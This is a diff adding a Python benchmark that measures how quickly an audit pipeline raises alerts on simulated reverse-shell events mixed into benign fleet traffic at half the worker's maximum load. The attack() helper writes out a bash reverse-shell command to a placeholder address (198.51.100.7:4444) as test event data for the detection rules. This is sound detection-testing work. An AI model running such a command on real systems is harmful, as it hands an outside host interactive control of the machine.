@@ -1,0 +1,212 @@
+"""Alert latency: from publish to alert on the topic, at half the worker's maximum load.
+
+    python benchmarks/alert_latency.py [--max-events 300000] [--seconds 30] [--runs 3]
+
+Needs the local stack (`auditpipe stack up`) or AUDITPIPE_KAFKA_BOOTSTRAP /
+AUDITPIPE_CLICKHOUSE_URL. Each run, with the default rule pack on:
+
+1. maximum load: --max-events simulated events published beforehand, then a real
+   ``auditpipe worker`` started; events/s from its start to the last row stored;
+2. latency: a fresh worker on a fresh topic, fed benign fleet events paced at half that
+   rate, with --attacks-per-s reverse-shell events mixed in, each from its own sandbox (so
+   none is suppressed). A consumer on audit.alerts notes when each attack's alert
+   arrives; latency = arrival - the moment the attack event was handed to the publisher
+   (its linger included). p50, p99 and max over the attacks, and how many alerted.
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import shutil
+import statistics
+import sys
+import tempfile
+import time
+import uuid
+from pathlib import Path
+from typing import Any
+
+from aiokafka import AIOKafkaConsumer
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+from benchmarks.e2e import isolated, measure_worker
+from pipeline.alerts_tail import decode_alert
+from pipeline.chclient import connect
+from pipeline.config import Settings, load_settings
+from pipeline.provision import apply_migrations, create_topics, load_migrations
+from pipeline.publish import EventPublisher, now_ms
+from pipeline.schema import codec_for
+from pipeline.simulate import FleetSimulator
+from tests.conftest import free_port
+from tests.integration.helpers import WorkerProcess
+
+
+def attack(n: int, run_id: str) -> dict[str, Any]:
+    shell = "bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"
+    return {
+        "event_id": str(uuid.uuid4()),
+        "ts": now_ms(),
+        "tenant": "acme",
+        "sandbox_id": f"atk-{run_id}-{n:05d}",
+        "seq": 1,
+        "category": "process",
+        "action": "exec",
+        "level": "notice",
+        "outcome": "success",
+        "actor": {
+            "user": "agent",
+            "uid": 1000,
+            "pid": 7,
+            "ppid": 1,
+            "process": "bash",
+            "cmdline": shell,
+        },
+        "object": "/usr/bin/bash",
+        "bytes": None,
+        "attributes": {},
+        "prev_hash": None,
+        "hash": None,
+    }
+
+
+async def collect_alerts(
+    settings: Settings, arrived: dict[str, float], stop: asyncio.Event
+) -> None:
+    codec = codec_for(settings)
+    consumer = AIOKafkaConsumer(
+        settings.kafka.topic_alerts,
+        bootstrap_servers=settings.kafka.bootstrap,
+        auto_offset_reset="earliest",
+    )
+    await consumer.start()
+    try:
+        while not stop.is_set():
+            batches = await consumer.getmany(timeout_ms=100)
+            now = time.time() * 1000
+            for records in batches.values():
+                for record in records:
+                    alert = decode_alert(codec, record.value or b"")
+                    for event_id in (alert or {}).get("evidence", []):
+                        arrived.setdefault(event_id, now)
+    finally:
+        await consumer.stop()
+
+
+async def measure_latency(
+    settings: Settings, rate: float, seconds: float, attacks_per_s: float, sandboxes: int
+) -> tuple[float, float, float, int, int]:
+    sim = FleetSimulator(sandboxes, seed=4)
+    emitted: dict[str, float] = {}
+    arrived: dict[str, float] = {}
+    stop = asyncio.Event()
+    consumer = asyncio.create_task(collect_alerts(settings, arrived, stop))
+    await asyncio.sleep(2)  # the consumer has joined
+    tick = 0.01
+    total = int(rate * seconds)
+    attacks = int(attacks_per_s * seconds)
+    async with EventPublisher(settings, codec_for(settings), client_id="bench-alerts") as publisher:
+        stream = sim.events(total)
+        started = time.monotonic()
+        sent = attacked = 0
+        while sent < total:
+            elapsed = time.monotonic() - started
+            due = min(total, int(rate * (elapsed + tick)))
+            while sent < due:
+                event = next(stream)
+                event["ts"] = now_ms()
+                await publisher.add(event)
+                sent += 1
+            while attacked < min(attacks, int(attacks_per_s * elapsed)):
+                event = attack(attacked, sim.run_id)
+                emitted[event["event_id"]] = time.time() * 1000
+                await publisher.add(event)
+                attacked += 1
+            await asyncio.sleep(tick)
+    for _ in range(150):  # up to 30 s for the last alerts
+        if set(emitted) <= set(arrived):
+            break
+        await asyncio.sleep(0.2)  # the consumer task fills `arrived`
+    stop.set()
+    await consumer
+    latencies = sorted(arrived[i] - t for i, t in emitted.items() if i in arrived)
+    if not latencies:
+        raise RuntimeError("no attack raised an alert")
+    p99 = latencies[min(len(latencies) - 1, int(0.99 * len(latencies)))]
+    return statistics.median(latencies), p99, latencies[-1], len(latencies), len(emitted)
+
+
+def one_run(base: Settings, args: argparse.Namespace, run: int) -> dict[str, float]:
+    tag = uuid.uuid4().hex[:8]
+    home = Path(tempfile.mkdtemp(prefix=f"auditpipe-alerts-{tag}-"))
+    settings = isolated(base, tag, home)
+    settings.worker.web_port = free_port()
+    client = connect(settings.clickhouse)
+    latency_settings = isolated(base, tag + "l", home)
+    latency_settings.worker.web_port = free_port()
+    try:
+        for s in (settings, latency_settings):
+            asyncio.run(create_topics(s))
+            apply_migrations(client, s.clickhouse.database, load_migrations())
+        print(
+            f"run {run}: publishing {args.max_events:,} events for the maximum load ...", flush=True
+        )
+
+        async def prepublish() -> None:
+            async with EventPublisher(settings, codec_for(settings)) as publisher:
+                await publisher.add_many(
+                    FleetSimulator(args.sandboxes, seed=1).events(args.max_events)
+                )
+
+        asyncio.run(prepublish())
+        maximum, _ = measure_worker(settings, client, args.max_events)
+        rate = maximum / 2
+        print(
+            f"run {run}: maximum {maximum:,.0f} events/s; latency at {rate:,.0f} events/s ...",
+            flush=True,
+        )
+        with WorkerProcess(latency_settings, name="latency-worker"):
+            p50, p99, worst, alerted, attacks = asyncio.run(
+                measure_latency(
+                    latency_settings, rate, args.seconds, args.attacks_per_s, args.sandboxes
+                )
+            )
+    finally:
+        for s in (settings, latency_settings):
+            client.command(f"DROP DATABASE IF EXISTS {s.clickhouse.database}")
+        shutil.rmtree(home, ignore_errors=True)
+    figures = {
+        "max_events_per_s": maximum,
+        "load_events_per_s": rate,
+        "p50_ms": p50,
+        "p99_ms": p99,
+        "max_ms": worst,
+        "alerted": float(alerted),
+        "attacks": float(attacks),
+    }
+    print(f"run {run}: " + ", ".join(f"{k}={v:,.1f}" for k, v in figures.items()), flush=True)
+    return figures
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    parser.add_argument("--max-events", type=int, default=300_000)
+    parser.add_argument("--seconds", type=float, default=30)
+    parser.add_argument("--attacks-per-s", type=float, default=10)
+    parser.add_argument("--sandboxes", type=int, default=20)
+    parser.add_argument("--runs", type=int, default=3)
+    args = parser.parse_args()
+    base = load_settings()
+    results = [one_run(base, args, run) for run in range(1, args.runs + 1)]
+    print(f"\nmedians of {args.runs} runs:")
+    print("| figure | median | runs |")
+    print("|---|---|---|")
+    for key in results[0]:
+        values = [r[key] for r in results]
+        runs = " / ".join(f"{v:,.1f}" for v in values)
+        print(f"| {key} | {statistics.median(values):,.1f} | {runs} |")
+
+
+if __name__ == "__main__":
+    main()
